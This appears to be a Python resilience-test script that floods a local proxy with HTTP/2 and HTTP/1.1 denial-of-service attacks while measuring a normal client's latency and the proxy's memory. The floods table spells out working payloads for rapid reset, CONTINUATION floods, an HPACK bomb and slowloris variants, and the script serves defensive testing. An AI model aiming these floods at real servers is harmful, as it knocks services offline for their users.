"""What attackers send, for some seconds each, beside a caller that wants to be served: floods.py PROXY ADMIN NORMAL VICTIM PID

The same bytes go to a socket that only reads first: that is the baseline of the caller's p99, so that what the attacker itself takes of
the machine counts in both. Prints `ok` or `FAIL` for each flood, with the figures. Memory and whether the caller is served decide; a p99
above the aim is told as missed: two floods miss it on two CPUs, and a busy machine makes others.
"""
import asyncio, multiprocessing, os, re, socket, sys, threading, time, urllib.request

PROXY, ADMIN, NORMAL, VICTIM, PID = (int(argument) for argument in sys.argv[1:6])
SECONDS = float(os.environ.get("FLOOD_SECONDS", "3"))
MOST_GROWTH = 20 << 20
MOST_TIMES = 2.0
ROUNDS = 3
# A p99 below this is noise of a machine that does other things as well.
LEAST_P99 = 0.002
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(*pairs):
    text = lambda value: bytes([len(value)]) + value.encode()
    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs)


def head(path, method="GET"):
    return fields((":method", method), (":scheme", "http"), (":path", path), (":authority", "victim"))


START = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
WIDE = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + (0x7FFFFFFF).to_bytes(4, "big")) + frame(WINDOW, 0, 0, b"\x7f\0\0\0")
HANG, STREAMS = head("/hang"), range(1, 20001, 2)
OPEN = START + frame(HEADERS, 4, 1, head("/hang", "POST"))
BOMB = head("/") + b"\x40\1x\x7f\xa1\x1e" + b"y" * 4000 + bytes([0x80 | 62]) * 12000

# Name -> what a connection sends first, what it sends again and again, how many connections there are.
FLOODS = {
    "rapid reset": (START, b"".join(frame(HEADERS, 5, s, HANG) + frame(RST, 0, s, b"\0\0\0\x08") for s in STREAMS), 2),
    "made you reset": (START, b"".join(frame(HEADERS, 5, s, HANG) + frame(WINDOW, 0, s, b"\x7f\xff\xff\xff") for s in STREAMS), 2),
    "PING": (START, frame(PING, 0, 0, b"12345678") * 5000, 2),
    "SETTINGS": (START, frame(SETTINGS, 0, 0) * 5000, 2),
    "PRIORITY": (START, frame(PRIORITY, 0, 3, b"\0\0\0\0\1") * 5000, 2),
    "empty DATA": (OPEN, frame(DATA, 0, 1) * 5000, 2),
    "WINDOW_UPDATE": (START, frame(WINDOW, 0, 0, b"\0\0\0\1") * 5000, 2),
    "CONTINUATION": (START + frame(HEADERS, 1, 1, HANG), frame(CONTINUATION, 0, 1, fields(("x", "y" * 100)) * 100) * 20, 2),
    "HPACK bomb": (START, frame(HEADERS, 5, 1, BOMB), 2),
    "huge heads": (b"GET / HTTP/1.1\r\nhost: victim\r\n", (b"x: " + b"y" * 1000 + b"\r\n") * 100, 2),
    "many connections": (b"GET /", None, 2),
    "slow heads": (b"GET / HTTP/1.1\r\nhost: victim\r\n", 0.2, 400),
    "slow heads of HTTP/2": (START + frame(HEADERS, 1, 1, HANG[:10]), 0.2, 400),
    "slow body": (b"POST / HTTP/1.1\r\nhost: victim\r\ncontent-length: 1000000\r\n\r\n", 0.2, 100),
    "slow read": (WIDE + b"".join(frame(HEADERS, 5, s, head("/big")) for s in range(1, 512, 2)), 0.2, 1),
}


def attack(name, port, end):
    """One attacker: its connections one after the other, or all at once where they are slow."""
    first, again, connections = FLOODS[name]
    if isinstance(again, float):
        held = []
        while time.time() < end:
            try:
                while len(held) < connections:
                    held.append(socket.create_connection(("127.0.0.1", port)))
                    held[-1].sendall(first)
            except OSError:
                pass
            for one in held[:]:
                try:
                    one.sendall(b"" if "read" in name or "HTTP/2" in name else b"x: y\r\n")
                except OSError:
                    held.remove(one)
            time.sleep(again)
        return
    while time.time() < end:
        try:
            with socket.create_connection(("127.0.0.1", port)) as one:
                one.settimeout(1)
                one.sendall(first)
                while again and time.time() < end:
                    one.sendall(again)
                    if len(again) > 100000 and first.startswith(PREFACE):
                        break  # its streams are used up
        except OSError:
            pass


async def serve(port, slow):
    """An endpoint: it answers, or not, or with much."""
    async def connection(reader, writer):
        try:
            while line := await reader.readuntil(b"\r\n\r\n"):
                if slow and line.startswith((b"GET /hang", b"POST")):
                    await asyncio.sleep(60)
                size = 8 << 20 if line.startswith(b"GET /big") else 2
                writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % size)
                for _ in range(max(size >> 16, 1)):
                    writer.write(b"o" * min(size, 1 << 16))
                    await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass
        finally:
            writer.close()
    async with await asyncio.start_server(connection, "127.0.0.1", port, backlog=4096) as server:
        await server.serve_forever()


def sink(listener):
    def read(one):
        try:
            while one.recv(1 << 18):
                pass
        except OSError:
            pass
    while True:
        one, _ = listener.accept()
        one.settimeout(5)
        threading.Thread(target=read, args=(one,), daemon=True).start()


def ask_until(end):
    """How long each request took of a caller that asks one after the other, with a moment between."""
    took = []
    with socket.create_connection(("127.0.0.1", PROXY)) as one:
        while time.time() < end:
            start = time.perf_counter()
            one.sendall(b"GET / HTTP/1.1\r\nhost: normal\r\n\r\n")
            answer = b""
            while not answer.endswith(b"oo"):
                piece = one.recv(65536)
                assert piece, f"the caller was sent away: {answer}"
                answer += piece
            assert answer.startswith(b"HTTP/1.1 200"), answer
            took.append(time.perf_counter() - start)
            time.sleep(0.001)
    return sorted(took)[int(len(took) * 0.99)]


def resident():
    return int(re.search(r"RssAnon:\s+(\d+)", open(f"/proc/{PID}/status").read())[1]) << 10


def beside(name, port):
    """The caller's p99 and the most memory while the attack goes on."""
    end = time.time() + SECONDS
    attacker = multiprocessing.Process(target=attack, args=(name, port, end), daemon=True)
    attacker.start()
    most, over = [0], threading.Event()
    def look():
        while not over.wait(0.02):
            most[0] = max(most[0], resident())
    watching = threading.Thread(target=look)
    watching.start()
    p99 = ask_until(end)
    over.set()
    watching.join()
    attacker.join(5)
    attacker.kill()
    return p99, most[0]


def floods():
    text = urllib.request.urlopen(f"http://127.0.0.1:{ADMIN}/metrics").read().decode()
    return sum(int(float(n)) for n in re.findall(r"^towpath_http2_floods_total\{.*\} (\S+)", text, re.M))


def judge(name, elsewhere):
    before, cut = resident(), floods()
    baseline, _ = beside(name, elsewhere)
    p99, most = beside(name, PROXY)
    time.sleep(0.5)
    growth = max(most - before, 0)
    figures = f"{growth / (1 << 20):.1f} MiB more, p99 {p99 * 1e3:.2f} ms beside it, {baseline * 1e3:.2f} ms beside its sender, {floods() - cut} cut"
    return growth <= MOST_GROWTH, p99 <= MOST_TIMES * max(baseline, LEAST_P99), figures


def main():
    listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
    for target, args in ((lambda: asyncio.run(serve(NORMAL, False)), ()), (lambda: asyncio.run(serve(VICTIM, True)), ()), (sink, (listener,))):
        multiprocessing.Process(target=target, args=args, daemon=True).start()
    time.sleep(0.5)
    ask_until(time.time() + 1)
    for name in sys.argv[6:] or FLOODS:
        # What else the machine does passes; what the flood does comes again.
        for _ in range(ROUNDS):
            fine, quick, figures = judge(name, listener.getsockname()[1])
            if quick or not fine:
                break
            print(f"   p99 missed, flood of {name}: {figures}", flush=True)
        print(f"{'ok' if fine else 'FAIL'} flood of {name}: {figures}", flush=True)


main()
